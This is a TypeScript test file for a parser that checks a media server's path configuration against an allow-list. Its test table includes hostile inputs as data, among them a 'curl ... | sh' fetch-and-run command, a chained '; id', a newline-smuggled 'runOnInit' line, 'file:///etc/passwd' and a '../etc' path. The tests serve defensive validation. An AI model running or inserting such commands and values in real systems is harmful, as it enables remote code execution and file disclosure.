import { transcodeCommand } from '@ppf/mediamtx';
import { DocumentFault, parseDocument } from './parse-document';

const MAIN = 'workshop-1/pit-2';
const PULL = { source: 'rtsp://u:p%40@10.0.0.5:554/stream?a=1', sourceOnDemand: false, rtspTransport: 'tcp' };
const document = (change: object = {}) => ({
  protocol: 1,
  media_server_id: 1,
  version: 'version-1',
  paths_by: 'file',
  paths: [],
  reconnects: [],
  ...change,
});
const withPath = (config: object | null, path = MAIN, keeps: unknown = null) =>
  parseDocument(document({ paths: [{ path, config, keeps }] }));

describe('a document of the backend', () => {
  it('is parsed, with fields of a newer backend ignored', () => {
    const later = {
      ...document(),
      later: true,
      paths: [{ path: MAIN, config: PULL, keeps: null, later: 1 }],
    };
    expect(parseDocument(later)).toEqual({
      version: 'version-1',
      pathsBy: 'file',
      entries: [{ path: MAIN, config: PULL, keeps: null }],
      refused: [],
      reconnects: [],
    });
  });

  it.each([
    ['no object', 'text'],
    ['another form', document({ protocol: 2 })],
    ['no version', document({ version: '' })],
    ['another way to set paths', document({ paths_by: 'shell' })],
    ['no list of paths', document({ paths: {} })],
    ['too many paths', document({ paths: Array.from({ length: 20_001 }, () => ({})) })],
  ])('is refused as a whole: %s', (_, value) => {
    expect(() => parseDocument(value)).toThrow(DocumentFault);
  });

  it('has reconnect requests with valid names only', () => {
    const reconnects = [
      { id: 'request-1', path: MAIN },
      { id: 'request-2', path: 'lobby' },
      { id: '', path: MAIN },
      1,
    ];
    expect(parseDocument(document({ reconnects })).reconnects).toEqual([{ id: 'request-1', path: MAIN }]);
  });

  it('refuses a path that is named twice with different results', () => {
    const paths = [
      { path: MAIN, config: PULL },
      { path: MAIN, config: { ...PULL, source: 'x' } },
    ];
    expect(parseDocument(document({ paths }))).toMatchObject({
      entries: [],
      refused: [{ path: MAIN, reason: 'value of source' }],
    });
  });
});

describe('the allow-list of a path', () => {
  const command = transcodeCommand({ kind: 'path', path: `${MAIN}/raw` }, MAIN);
  it.each<[string, object, string | null]>([
    ['a camera', PULL, null],
    [
      'a camera with TLS',
      { ...PULL, source: 'rtsps://[fd00::9]:322/a', sourceFingerprint: 'a'.repeat(64) },
      null,
    ],
    ['a camera on demand', { ...PULL, sourceOnDemand: true, sourceOnDemandCloseAfter: '30s' }, null],
    ['a publisher', { source: 'publisher' }, null],
    ['a transcoder of ours', { source: 'publisher', runOnDemand: command, runOnDemandRestart: true }, null],
    ['no source', {}, 'value of source'],
    ['a file', { source: 'file:///etc/passwd' }, 'value of source'],
    ['a source without a host', { source: 'rtsp:///a' }, 'value of source'],
    ['a port of 0', { source: 'rtsp://10.0.0.5:0/a' }, 'value of source'],
    ['a port that is too large', { source: 'rtsp://10.0.0.5:65536/a' }, 'value of source'],
    ['a percent sign that encodes nothing', { source: 'rtsp://10.0.0.5/a%zz' }, 'value of source'],
    ['a line break', { source: 'rtsp://10.0.0.5/a\nrunOnInit: id' }, 'value of source'],
    ['a quote', { source: 'rtsp://10.0.0.5/a"b' }, 'value of source'],
    ['another scheme', { source: 'srt://10.0.0.5:1/a' }, 'value of source'],
    ['a command', { ...PULL, runOnReady: 'curl http://10.0.0.9 | sh' }, 'value of runOnReady'],
    ['a command with ours in front', { ...PULL, runOnReady: `${command}; id` }, 'value of runOnReady'],
    ['a command in another form', { ...PULL, runOnReady: [command] }, 'value of runOnReady'],
    ['a command that only newer releases have', { ...PULL, runOnAvailable: command }, 'key runOnAvailable'],
    ['a command at the end', { ...PULL, runOnNotReady: command }, 'key runOnNotReady'],
    ['a recording', { ...PULL, recordPath: '/etc/%path' }, 'key recordPath'],
    ['the mark of the agent', { ...PULL, rtspRangeStart: 'x' }, 'key rtspRangeStart'],
    ['a key of the prototype', { ...PULL, constructor: 'x' }, 'key constructor'],
    ['a key that is not a name', { ...PULL, 'a\nb: c': 1 }, 'key without a valid name'],
    ['an invalid duration', { ...PULL, sourceOnDemandCloseAfter: '1d' }, 'value of sourceOnDemandCloseAfter'],
    ['an invalid fingerprint', { ...PULL, sourceFingerprint: 'abc' }, 'value of sourceFingerprint'],
    ['a publisher on demand', { source: 'publisher', sourceOnDemand: true }, 'value of sourceOnDemand'],
    ['a transcoder on a pulled path', { ...PULL, runOnDemand: command }, 'value of runOnDemand'],
  ])('decides on %s', (_, config, reason) => {
    const { entries, refused } = withPath(config);
    expect(refused).toEqual(reason === null ? [] : [{ path: MAIN, reason }]);
    expect(entries).toHaveLength(reason === null ? 1 : 0);
  });

  it.each(['lobby', '~^workshop', 'all_others', 'workshop-1/pit-01', '../etc'])(
    'refuses the name %s',
    (path) => {
      expect(withPath(PULL, path)).toMatchObject({ entries: [], refused: [{ reason: 'name' }] });
    },
  );

  it('never repeats a value in a reason', () => {
    const { refused } = withPath({ ...PULL, source: 'rtsp://u:concealed@[bad', later: 'concealed' });
    expect(JSON.stringify(refused)).not.toContain('concealed');
  });
});
